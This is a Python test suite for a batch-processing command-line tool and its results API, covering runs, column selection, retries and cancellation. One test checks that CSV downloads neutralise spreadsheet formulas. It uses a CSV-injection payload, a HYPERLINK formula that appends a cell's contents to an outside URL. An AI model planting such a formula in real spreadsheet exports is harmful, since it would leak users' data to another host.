"""`outlast batch`, typed by a user beside a real stack."""

import csv
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.support.calls.batches import ended
from tests.support.processes.terminal import Shell
from tests.support.stacks.service import Service


@pytest.fixture
def shell(service: Service, tmp_path: Path) -> Shell:
    return Shell(service, tmp_path)


def lines(*items: dict[str, Any]) -> str:
    return "\n".join(json.dumps(item) for item in items)


async def test_a_file_is_carried_out_and_its_results_are_saved(shell: Shell) -> None:
    (shell.folder / "in.csv").write_text("who,number\nann,1\nbob,2\n")
    given = ("batch", "run", "double", "in.csv", "-m", "number=number", "--key", "who", "-o", "out.csv")
    first = await shell.outlast(*given)
    assert first.code == 0, first.said
    assert "2 completed" in first.said
    table = (shell.folder / "out.csv").read_text().splitlines()
    assert sorted(line.split(",")[0] for line in table) == ["ann", "bob", "key"]
    # The same command meets the same batch; --again does not.
    listed = json.loads((await shell.outlast("batch", "ls", "--limit", "1", "--json")).out)["batches"]
    again = await shell.outlast(*given)
    assert (again.code, "--again starts another one" in again.said) == (0, True)
    after = json.loads((await shell.outlast("batch", "ls", "--limit", "1", "--json")).out)["batches"]
    assert after[0]["id"] == listed[0]["id"]
    anew = await shell.outlast(*given, "--again", "--json")
    assert json.loads(anew.out)["id"] != listed[0]["id"]


async def test_cells_that_a_spreadsheet_would_compute_are_text_in_downloads(
    shell: Shell, api: httpx.AsyncClient
) -> None:
    formula = '=HYPERLINK("https://example.com/?"&A1)'
    items = lines(
        {"key": formula, "arguments": {"number": -5}},
        {"key": "-5", "arguments": {"number": 1, "label": formula, "fails_with": "payment"}},
    )
    ran = await shell.outlast("batch", "run", "double", "-", "-o", "out.csv", typed=items)
    batch_id = next(word for word in ran.said.split() if word.startswith("batch-"))
    with (shell.folder / "out.csv").open(newline="") as file:
        saved = {row["key"]: row for row in csv.DictReader(file)}
    assert saved.keys() == {f"'{formula}", "-5"}
    assert saved["-5"]["error_message"] == f"'{formula} fails."
    assert json.loads(saved[f"'{formula}"]["result"]) == {"doubled": -10}

    async def printed(*options: str) -> str:
        return (await shell.outlast("batch", "results", batch_id, "--csv", *options)).out

    path = f"/v1/batches/{batch_id}/results"
    safe = (await api.get(path, params={"format": "csv", "csv_safe": "true"})).text
    plain = (await api.get(path, params={"format": "csv"})).text
    assert "'=HYPERLINK" in safe
    assert "'=HYPERLINK" not in plain
    assert (await printed()).splitlines() == safe.splitlines()
    assert (await printed("--no-csv-safe")).splitlines() == plain.splitlines()


async def test_results_have_chosen_columns_beside_those_of_the_input(shell: Shell, api: httpx.AsyncClient) -> None:
    """Also those that the mapping does not use; a batch of arguments shows these."""
    (shell.folder / "in.csv").write_text("who,city,count\nann,=Oslo,1\nbob,,2\n")
    ran = await shell.outlast("batch", "run", "double", "in.csv", "-m", "number=count", "--key", "who")
    batch_id = next(word for word in ran.said.split() if word.startswith("batch-"))

    async def table(*options: str) -> list[list[str]]:
        printed = await shell.outlast("batch", "results", batch_id, "--csv", *options)
        assert printed.code == 0, printed.said
        header, *rows = csv.reader(printed.out.splitlines())
        return [header, *sorted(rows)]

    whole = await table("--input")
    assert whole[0][:5] == ["input.who", "input.city", "input.count", "key", "index"]
    assert [row[:4] for row in whole[1:]] == [["ann", "'=Oslo", "1", "ann"], ["bob", "", "2", "bob"]]
    chosen = await table("--columns", "input.city,result.doubled,status,error_category")
    assert chosen[1:] == [["", "4", "completed", ""], ["'=Oslo", "2", "completed", ""]]
    columns = ("--columns", "key,result.doubled,input.count,result.absent")
    lines_of_json = (await shell.outlast("batch", "results", batch_id, *columns)).out.splitlines()
    ann = {"key": "ann", "result.doubled": 2, "input.count": "1", "result.absent": None}
    assert ann in map(json.loads, lines_of_json)
    saved = await shell.outlast("batch", "results", batch_id, "--input", "--save", "all.jsonl")
    assert saved.code == 0, saved.said
    rows = [json.loads(line) for line in (shell.folder / "all.jsonl").read_text().splitlines()]
    assert {"who": "bob", "city": None, "count": "2"} in [row["input"] for row in rows]
    unknown = await shell.outlast("batch", "results", batch_id, "--columns", "nothing")
    assert (unknown.code, "There is no column 'nothing'" in unknown.said) == (2, True)
    plain = await shell.outlast("batch", "run", "double", "-", "--detach", typed=lines({"number": 4}))
    await ended(api, plain.out.strip())
    [row] = (await shell.outlast("batch", "results", plain.out.strip(), "--columns", "input")).out.splitlines()
    assert json.loads(row) == {"input": {"number": 4}}


async def test_lines_that_do_not_fit_are_told(shell: Shell) -> None:
    refused = await shell.outlast("batch", "run", "double", "-", typed=lines({"number": 1}, {"number": "x"}))
    assert refused.code == 2
    assert "Line 2" in refused.said
    assert (await shell.outlast("batch", "run", "double")).code == 2
    assert (await shell.outlast("batch", "run", "double", "absent.csv")).code == 2
    assert (await shell.outlast("batch", "show", "batch-nothing")).code != 0


async def test_failed_items_are_shown_and_retried(shell: Shell, api: httpx.AsyncClient) -> None:
    failing = {"number": 2, "fails_with": "timeout", "fails_until": 1}
    ran = await shell.outlast("batch", "run", "double", "-", typed=lines({"number": 1}, failing))
    assert ran.code == 1
    assert "1 failed" in ran.said
    batch_id = next(word for word in ran.said.split() if word.startswith("batch-"))
    assert batch_id in next(line for line in ran.said.splitlines() if "retry" in line)
    [row] = (await shell.outlast("batch", "results", batch_id, "--status", "failed")).out.splitlines()
    assert json.loads(row)["error"]["category"] == "timeout"
    retried = await shell.outlast("batch", "retry", batch_id, "--category", "timeout")
    assert retried.code == 0, retried.said
    shown = await shell.outlast("batch", "show", batch_id)
    assert "2 completed" in shown.out
    table = await shell.outlast("batch", "results", batch_id, "--csv", "--rows", ":1")
    assert len(table.out.splitlines()) == 2
    assert (await shell.outlast("batch", "results", batch_id, "--csv", "--follow")).code == 2


async def test_a_batch_is_left_followed_cancelled_and_resumed(shell: Shell, api: httpx.AsyncClient) -> None:
    items = lines({"seconds": 600}, {"seconds": 0})
    left = await shell.outlast("batch", "run", "outlast/sleeper", "-", "-a", "steps=1", "--detach", typed=items)
    batch_id = left.out.strip()
    assert batch_id.startswith("batch-")
    cancelled = await shell.outlast("batch", "cancel", batch_id)
    assert cancelled.code == 0, cancelled.said
    watched = await shell.outlast("batch", "show", batch_id, "--watch")
    assert watched.code == 1
    followed = await shell.outlast("batch", "results", batch_id, "--follow")
    assert {json.loads(line)["status"] for line in followed.out.splitlines()} <= {"completed", "cancelled"}
    given = ("--stop", "seconds=1", "--stop", "under_way=cancel", "--detach", "--json")
    resumed = await shell.outlast("batch", "resume", batch_id, *given)
    assert json.loads(resumed.out)["options"]["stop"]["seconds"] == 1
    assert (await ended(api, batch_id))["stopped_by"] == "time"
    tasks = json.loads((await shell.outlast("tasks", "ls", "--batch", batch_id, "--json")).out)["tasks"]
    assert {task["batch_id"] for task in tasks} == {batch_id}
